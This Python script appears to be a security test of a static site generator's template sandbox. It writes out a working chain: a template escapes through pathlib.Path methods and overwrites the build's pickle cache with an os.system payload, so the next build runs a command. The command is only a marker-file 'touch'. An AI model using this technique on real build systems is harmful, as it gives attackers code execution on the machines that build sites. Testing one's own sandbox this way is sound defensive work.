"""Round 19: from a theme template to running a program. The sandbox leaves pathlib.Path's methods
callable (`site.root` is a Path), so a template can write any file the build user may write; the
build's parse cache (.gkssg/cache.db) holds pickles that the next build loads. A template that copies
a prepared cache.db (shipped beside it in themes/default/templates/) over the site's cache makes the
next plain build, with no theme at all, run a command: here `touch /tmp/h19/ran19`.

Run: PYTHONPATH=$PWD python scripts/attacks/r19_exec.py"""
from __future__ import annotations

import os
import pickle
import shutil
import sqlite3
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import r19_common as c  # noqa: E402

RAN = c.TMP / "ran19"


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {RAN}",)


def main() -> int:
    c.setup()
    RAN.unlink(missing_ok=True)
    evil = c.TMP / "evil.db"
    shutil.copy(c.SITE / ".gkssg" / "cache.db", evil)
    with sqlite3.connect(evil) as db:
        db.execute("UPDATE docs SET blob = ?", (pickle.dumps(Payload()),))
    db.close()
    blob = evil.read_bytes()
    folder = c.SITE / "themes" / "default" / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evil.db").write_bytes(blob)
    result = c.attempt({"404.html": "{{ site.root.joinpath('.gkssg', 'cache.db').write_bytes("
                                    "site.root.joinpath('themes/default/templates/evil.db').read_bytes()) }}"})
    print(f"build with the template: rc={result['rc']} {result['message'][:120]}; ran19 exists: {RAN.exists()}")
    rc, message = c.build()  # a plain build: no theme left in the site
    ran = RAN.exists()
    print(f"next plain build: rc={rc} {message.splitlines()[-1][:120] if message else ''}; ran19 exists: {ran}")
    print("BROKEN: a template made a later build run a command" if ran else "holds")
    shutil.rmtree(c.SITE / ".gkssg", ignore_errors=True)
    return 1 if ran else 0


if __name__ == "__main__":
    sys.exit(main())
